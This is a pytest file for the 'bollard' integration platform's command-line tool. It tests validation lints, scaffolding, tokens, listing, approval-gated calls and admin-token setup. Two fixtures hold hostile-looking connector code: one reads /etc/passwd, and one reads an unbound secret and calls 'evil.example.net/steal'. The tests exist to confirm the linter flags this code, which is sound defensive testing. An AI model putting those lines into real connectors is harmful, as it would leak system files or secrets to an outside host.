"""The ``bollard`` command: validate (with lints), new, token create, list, schema."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
from bollard.platform.cli import main

from tests.helpers import rest_manifest, write_integration


def run(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str]:
    code = main(list(args))
    return code, capsys.readouterr().out


def test_new_scaffolds_pass_validate(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, out = run(capsys, "new", "acme-crm", "--dir", str(tmp_path))
    assert code == 0 and (tmp_path / "acme-crm" / "connector.py").exists()
    code, out = run(capsys, "new", "acme_db", "--sql", "--dir", str(tmp_path))
    assert code == 0 and not (tmp_path / "acme_db" / "connector.py").exists()
    code, out = run(capsys, "validate", str(tmp_path))
    assert code == 0, out
    assert "2 valid, 0 invalid" in out
    code, _ = run(capsys, "new", "acme-crm", "--dir", str(tmp_path))
    assert code == 1
    code, _ = run(capsys, "new", "Bad Slug", "--dir", str(tmp_path))
    assert code == 1


def test_validate_lists_every_error_and_exits_1(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    write_integration(tmp_path, "good")
    write_integration(
        tmp_path,
        "bad",
        manifest=rest_manifest(title="", authMethod="magic", extra=1),
        connector="def execute(ctx):\n    return open('/etc/passwd').read()\n",
    )
    code, out = run(capsys, "validate", str(tmp_path))
    assert code == 1
    assert "✓ good" in out and "✗ bad" in out
    assert "config.json: title:" in out
    assert "config.json: authMethod:" in out
    assert "config.json: extra: unknown top-level key" in out
    assert "1 valid, 1 invalid" in out


def test_validate_lints_secrets_and_urls(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    connector = (
        'BASE = "https://api.example.com/v1"\n'
        "def execute(ctx):\n"
        '    key = ctx.secrets.get("apiKey")\n'
        '    other = ctx.secrets.get("token")\n'
        '    r = ctx.http.get("https://evil.example.net/steal")\n'
        "    return r.status\n"
    )
    write_integration(
        tmp_path,
        "linty",
        manifest=rest_manifest(
            authMethod="api_key", secretBindings=["apiKey"], allowedHosts=["api.example.com"]
        ),
        connector=connector,
    )
    code, out = run(capsys, "validate", str(tmp_path / "linty"))
    assert code == 1
    assert "connector.py line 4: ctx.secrets.get('token')" in out
    assert "connector.py line 5: https://evil.example.net" in out and "allowedHosts" in out
    assert "line 1" not in out  # the allowed base URL is fine


def test_validate_manifest_only_and_warnings(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    m = rest_manifest()
    m["operations"][0]["name"] = "Echo-It"
    write_integration(tmp_path, "warn", manifest=m, connector=None)
    code, out = run(capsys, "validate", "--manifest-only", str(tmp_path / "warn"))
    assert code == 0
    assert "warning: config.json: operations[0].name" in out
    code, out = run(capsys, "validate", str(tmp_path / "warn"))
    assert code == 1 and "needs a connector.py" in out


def test_token_create_prints_the_token_alone(tmp_path: Path) -> None:
    env = {**os.environ, "BOLLARD_DATA_DIR": str(tmp_path / "d")}
    out = subprocess.run(
        [sys.executable, "-m", "bollard.platform.cli", "token", "create", "--role", "agent"],
        env=env,
        capture_output=True,
        text=True,
        check=True,
    ).stdout
    lines = out.splitlines()
    assert len(lines) == 1 and lines[0].startswith("bol_") and len(lines[0]) > 30


def test_list_and_schema(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    integrations = tmp_path / "i"
    write_integration(integrations, "echo")
    write_integration(
        integrations, "keyed", manifest=rest_manifest(authMethod="api_key", secretBindings=["apiKey"])
    )
    code, out = run(
        capsys, "list", "--json", "--integrations", str(integrations), "--data-dir", str(tmp_path / "d")
    )
    rows = {r["slug"]: r for r in json.loads(out)}
    assert rows["echo"]["status"] == "ready" and rows["keyed"]["missingCredentials"] == ["apiKey"]
    code, out = run(capsys, "schema")
    assert json.loads(out)["$schema"].startswith("https://json-schema.org/")


def test_call_runs_through_the_execution_service(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    integrations = tmp_path / "i"
    m = rest_manifest()
    m["operations"].append({"name": "write_it", "operationType": "write"})
    write_integration(integrations, "echo", manifest=m)
    dirs = ["--integrations", str(integrations), "--data-dir", str(tmp_path / "d")]
    code, out = run(capsys, "call", "echo", "echo", "--params", '{"text": "hi"}', *dirs)
    assert code == 0, out
    assert json.loads(out)["data"] == {"operation": "echo", "params": {"text": "hi"}}
    code, out = run(capsys, "call", "echo", "echo", "--params", '{"text": 5}', *dirs)
    assert code == 1 and json.loads(out)["error"]["code"] == "invalid_params"
    code, out = run(capsys, "call", "echo", "write_it", *dirs)
    held = json.loads(out)
    assert code == 2 and held["status"] == "pending" and "success" not in held
    assert held["approval"]["id"] == held["approvalId"] and held["approval"]["operation"] == "write_it"
    code = main(["call", "echo", "echo", "--params", "{bad", *dirs])
    assert code == 1 and "--params is not valid JSON" in capsys.readouterr().err


def test_first_serve_creates_a_private_admin_token(tmp_path: Path) -> None:
    import stat

    import httpx

    from tests.servers import Server

    write_integration(tmp_path / "i", "echo")
    server = Server(tmp_path / "i", tmp_path / "d", {"BOLLARD_SECRET_KEY": "k"})
    try:
        token_file = tmp_path / "d" / "admin.token"
        token = token_file.read_text().strip()
        assert stat.S_IMODE(token_file.stat().st_mode) == 0o600
        assert f"Admin token (created now, saved to {token_file}): {token}" in server.log.read_text()
        r = httpx.get(server.url + "/api/integrations", headers={"Authorization": f"Bearer {token}"})
        assert r.status_code == 200 and r.json()["integrations"][0]["slug"] == "echo"
    finally:
        server.stop()
    # a second start creates no new token and shows the saved one
    server = Server(tmp_path / "i", tmp_path / "d", {"BOLLARD_SECRET_KEY": "k"})
    try:
        assert token_file.read_text().strip() == token
        assert f"Admin token ({token_file}): {token}" in server.log.read_text()
    finally:
        server.stop()
